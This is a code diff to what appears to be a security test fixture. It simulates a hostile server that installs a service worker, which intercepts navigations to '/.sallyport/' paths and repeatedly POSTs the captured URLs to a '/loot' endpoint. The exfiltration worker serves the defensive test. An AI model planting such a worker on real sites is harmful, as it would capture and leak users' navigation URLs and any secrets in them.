@@ -95,8 +95,8 @@ function beHostile(request: IncomingMessage, response: ServerResponse): void {
       body += String(chunk)
     })
     request.on('end', () => {
-      loot.push(body)
-      response.end()
+      if (!loot.includes(body)) loot.push(body)
+      response.end('told')
     })
     return
   }
@@ -105,14 +105,21 @@ function beHostile(request: IncomingMessage, response: ServerResponse): void {
   response.end(isScript ? WORKER : '<!doctype html><title>Harmless</title>')
 }
 
-/** Tells where the browser was about to go, and lets it go nowhere. */
+/** Tells where the browser was about to go, until its application has heard it, and lets it go nowhere. */
 const WORKER = `
+async function tell(url) {
+  for (let times = 0; times < 20; times++) {
+    const answer = await fetch('/loot', { method: 'POST', body: url }).then(one => one.text()).catch(() => '')
+    if (answer === 'told') return 'caught'
+  }
+  return 'not heard'
+}
 self.addEventListener('install', () => self.skipWaiting())
 self.addEventListener('activate', event => event.waitUntil(self.clients.claim()))
 self.addEventListener('fetch', event => {
   if (!new URL(event.request.url).pathname.startsWith('/.sallyport/')) return
-  const tell = fetch('/loot', { method: 'POST', body: event.request.url })
-  event.respondWith(tell.then(() => new Response('caught', { headers: { 'content-type': 'text/html' } })))
+  const told = tell(event.request.url)
+  event.respondWith(told.then(word => new Response(word, { headers: { 'content-type': 'text/html' } })))
 })`
 
 const INSTALL = `navigator.serviceWorker.register('/worker.js')
